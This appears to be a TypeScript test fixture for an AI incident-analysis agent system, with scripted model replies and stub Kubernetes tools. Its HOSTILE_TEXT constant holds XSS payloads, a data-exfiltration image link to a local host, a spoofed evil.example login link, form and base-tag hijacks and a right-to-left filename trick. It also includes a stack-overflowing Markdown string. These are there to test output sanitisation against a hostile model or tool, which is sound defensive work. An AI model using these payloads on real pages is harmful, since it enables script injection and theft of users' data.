import { SUMMARY_CALL } from "../../support/scripts.ts";

const TABLE = ["NAME       STATUS", ...Array.from({ length: 5 }, (_, n) => `pod-${n}      Running`)].join(
  "\n",
);
const JSON_RESULT = JSON.stringify({ kind: "List", items: Array.from({ length: 30 }, (_, n) => ({ n })) });
const LOG = Array.from({ length: 4_000 }, (_, n) => `line ${n} of the log of a pod that restarts`).join("\n");

/** A parser of Markdown without limits overflows its stack with it. */
export const QUOTES = `${">".repeat(60_000)} QUOTES`;

/** What a hostile model or tool would write to reach the reader's browser. */
export const HOSTILE_TEXT = [
  '<img src="http://127.0.0.1:9/a" onerror="window.hacked = 1">',
  "![x](http://127.0.0.1:9/exfiltrate?data=1)",
  "[click](javascript:window.hacked=2) [data](data:text/html,<script>window.hacked=3</script>)",
  "<script>window.hacked = 4</script><svg onload=window.hacked=5></svg><iframe src=http://127.0.0.1:9/f></iframe>",
  '<form action="http://127.0.0.1:9/form"><input name=a></form><style>*{display:none}</style><a id="page" name="page">x</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.hacked=6"></style></mglyph></table></mtext></math>',
  "[safe.example](https://evil.example/login) <base href=http://127.0.0.1:9/> <link rel=stylesheet href=http://127.0.0.1:9/s>",
  "exe.\u202Egnp \u001B[31mred\u001B[0m end",
].join("\n\n");

const tool = (name: string, args: object) => ({ tool_call: { name: `k8s.${name}`, arguments: args } });

/** A configuration with parallel agents, tools of every kind and a model that words in the alert select. */
export const SESSION_CONFIG = {
  tarsy: {
    queue: { worker_count: 5, max_concurrent_sessions: 5, max_parallel_agents: 4 },
    defaults: { llm_provider: "scripted", alert_type: "incident" },
    mcp_servers: { k8s: { transport: { type: "stdio", command: "true" } } },
    agents: {
      Pods: { mcp_servers: ["k8s"], iteration_strategy: "native-thinking" },
      Metrics: { mcp_servers: ["k8s"], iteration_strategy: "native-thinking" },
      Reader: { mcp_servers: [] },
      Actor: { type: "action", mcp_servers: ["k8s"], iteration_strategy: "native-thinking" },
    },
    agent_chains: {
      incident: {
        alert_types: ["incident"],
        stages: [
          { name: "Look", agents: [{ name: "Pods" }, { name: "Metrics" }] },
          { name: "Decide", agents: [{ name: "Reader" }] },
        ],
      },
      act: { alert_types: ["act"], stages: [{ name: "Act", agents: [{ name: "Actor" }] }] },
      crowd: { alert_types: ["crowd"], stages: [{ name: "All", replicas: 6, agents: [{ name: "Reader" }] }] },
    },
  },
  stubTools: {
    servers: {
      k8s: {
        pods: { description: "Lists pods", read_only: true, results: [{ text: TABLE }] },
        describe: { description: "Describes", read_only: true, results: [{ text: JSON_RESULT }] },
        logs: { description: "Shows logs", read_only: true, results: [{ text: LOG }] },
        broken: { description: "Fails", read_only: true, results: [{ error: "connection refused" }] },
        hostile: { description: "Hostile", read_only: true, results: [{ text: HOSTILE_TEXT }] },
        line: { description: "A long line", read_only: true, results: [{ text: "x".repeat(1_000_000) }] },
        remove: { effect: "write", approve: true, results: [{ text: "removed" }] },
      },
    },
  },
  script: {
    calls: [
      // Of the summary too.
      { when: { contains: "QUOTES" }, steps: [{ text: QUOTES }] },
      SUMMARY_CALL,
      {
        when: { contains: "HOSTILE", call: 1, tools: true },
        steps: [{ thinking: HOSTILE_TEXT }, tool("hostile", {}), tool("line", { "<b>a</b>": HOSTILE_TEXT })],
      },
      { when: { contains: "HOSTILE" }, steps: [{ text: HOSTILE_TEXT }] },
      {
        when: { contains: "SLOW", call: 1, tools: true },
        steps: [{ thinking: "word ".repeat(800), chunk_size: 5, chunk_delay: "30ms" }, { text: "done" }],
      },
      {
        when: { contains: "REFUSED" },
        steps: [{ error: { code: "content_blocked", message: "we do not answer this", retryable: false } }],
      },
      { when: { contains: "HANG" }, steps: [{ text: "this goes on" }, { hang: true }] },
      {
        when: { contains: "REMOVE", call: 1, tools: true },
        steps: [{ thinking: "It must go." }, tool("remove", { pod: "a" })],
      },
      {
        when: { call: 1, tools: true },
        steps: [
          { thinking: "Which pods are there?" },
          tool("pods", { namespace: "shop" }),
          tool("describe", { namespace: "shop" }),
          tool("logs", { pod: "pod-1" }),
          tool("broken", { target: "10.0.0.7:9090" }),
        ],
      },
      {
        when: { contains: "CITED" },
        steps: [
          {
            text: 'The `log` ends with "line 3999 of the log of a pod", as k8s.logs shows; k8s.broken: **connection refused**.\n',
          },
        ],
      },
      {
        steps: [
          { thinking: "It is memory." },
          { text: "# Root cause\n\nThe **memory** is full.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n" },
          { usage: { input_tokens: 5_000, output_tokens: 800, thinking_tokens: 100 } },
        ],
      },
    ],
  },
};
